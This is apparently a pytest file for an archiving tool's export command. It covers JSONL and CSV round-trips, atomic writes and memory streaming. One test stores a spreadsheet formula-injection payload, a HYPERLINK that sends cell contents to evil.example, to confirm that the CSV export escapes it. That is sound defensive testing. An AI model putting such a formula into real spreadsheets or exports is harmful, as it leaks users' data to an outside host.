"""export: JSONL and CSV round-trip against the database, atomically, streaming."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tracemalloc
from pathlib import Path
from typing import IO, Any, cast

import pytest
from archive_helpers import POST_ARABIC, POST_JACK, build_archive, make_project, set_status
from click.testing import CliRunner

from archiver import Archive
from archiver.cli import cli
from archiver.clock import utc_now
from archiver.models import PostSnapshot


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    config = build_archive(tmp_path_factory.mktemp("export"))
    set_status(config, POST_ARABIC, "deleted")
    return config


def db_rows(config: Path, sql: str, params: tuple[Any, ...] = ()) -> list[dict[str, Any]]:
    conn = sqlite3.connect(config.parent / "archive.db")
    conn.row_factory = sqlite3.Row
    try:
        return [dict(row) for row in conn.execute(sql, params)]
    finally:
        conn.close()


def latest_snapshot(config: Path, key: str) -> dict[str, Any]:
    return db_rows(
        config,
        "SELECT * FROM snapshots WHERE post_key = ? ORDER BY captured_at DESC, id DESC LIMIT 1",
        (key,),
    )[0]


def test_jsonl_round_trips(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "posts.jsonl"
    result = CliRunner().invoke(cli, ["--config", str(project), "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    posts = {row["key"]: row for row in db_rows(project, "SELECT * FROM posts")}
    assert sorted(line["key"] for line in lines) == sorted(posts)
    for line in lines:
        snapshot, media = line.pop("latest_snapshot"), line.pop("media")
        assert line == posts[line["key"]]  # every column, every value, as stored
        assert snapshot == latest_snapshot(project, line["key"])
        assert media == db_rows(
            project,
            "SELECT ordinal, kind, url, local_path, poster_url, poster_local_path, content_type, "
            "bytes, width, height, alt_text, sha256, captured_at FROM media WHERE post_key = ? "
            "ORDER BY ordinal",
            (line["key"],),
        )
    arabic = next(line for line in lines if line["key"] == f"x:{POST_ARABIC}")
    assert arabic["status"] == "deleted"
    # No temp file left next to the export.
    assert [p.name for p in tmp_path.iterdir()] == ["posts.jsonl"]


def test_csv_round_trips(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "posts.csv"
    result = CliRunner().invoke(
        cli, ["--config", str(project), "export", "--format", "csv", "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    posts = {row["key"]: row for row in db_rows(project, "SELECT * FROM posts")}
    assert sorted(r["key"] for r in rows) == sorted(posts)
    for row in rows:
        stored = posts[row["key"]]
        for column, value in stored.items():
            assert row[column] == ("" if value is None else str(value)), column
        snapshot = latest_snapshot(project, row["key"])
        assert row["snapshot_id"] == str(snapshot["id"])
        assert row["snapshot_raw"] == snapshot["raw"]  # multi-line markup survives CSV quoting


def test_export_to_stdout_with_filters(project: Path) -> None:
    result = CliRunner().invoke(cli, ["--config", str(project), "export", "--author", "jack"])
    assert result.exit_code == 0
    lines = result.output.splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["key"] == f"x:{POST_JACK}"
    bad = CliRunner().invoke(cli, ["--config", str(project), "export", "--format", "xml"])
    assert bad.exit_code == 2


def test_failed_export_keeps_the_previous_file(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "posts.jsonl"
    out.write_text("previous export\n", encoding="utf-8")

    class Boom(Exception):
        pass

    def explode() -> None:
        raise Boom

    with Archive.from_config(project) as archive, pytest.raises(Boom):
        archive.export(out, "jsonl", advance=explode)
    assert out.read_text(encoding="utf-8") == "previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["posts.jsonl"]


def test_export_streams(tmp_path: Path) -> None:
    """3,000 posts of ~4 KB each: peak memory stays far below the export's size."""
    config = make_project(tmp_path, articles={})
    with Archive.from_config(config) as archive:
        now = utc_now()
        with archive.store.batch():  # one commit: the export is under test, not the saves
            for n in range(3000):
                snap = PostSnapshot(
                    post_id=str(10_000 + n), author_handle="bulk", text="x" * 2000, raw="y" * 2000
                )
                archive.store.save_snapshot(snap, now)
        written = 0

        class CountingSink(io.TextIOBase):
            def write(self, text: str) -> int:
                nonlocal written
                written += len(text)
                return len(text)

        tracemalloc.start()
        try:
            count = archive.export(cast(IO[str], CountingSink()), "jsonl")
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert count == 3000
    assert written > 12_000_000  # text and raw appear in the post and in its snapshot
    assert peak < written / 10


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    project = build_archive(tmp_path / "own")  # this test changes posts
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    db = sqlite3.connect(project.parent / "archive.db")
    db.execute(
        "UPDATE posts SET text = ?, author_name = '@cmd' WHERE key = ?", [formula, f"x:{POST_JACK}"]
    )
    db.commit()
    db.close()
    out = tmp_path / "posts.csv"
    CliRunner().invoke(cli, ["--config", str(project), "export", "--format", "csv", "-o", str(out)])
    with out.open(encoding="utf-8", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["key"] == f"x:{POST_JACK}")
    assert row["text"] == "'" + formula and row["author_name"] == "'@cmd"
    jsonl = CliRunner().invoke(cli, ["--config", str(project), "export", "--author", "jack"])
    assert json.loads(jsonl.output.splitlines()[0])["text"] == formula  # JSON stays exact
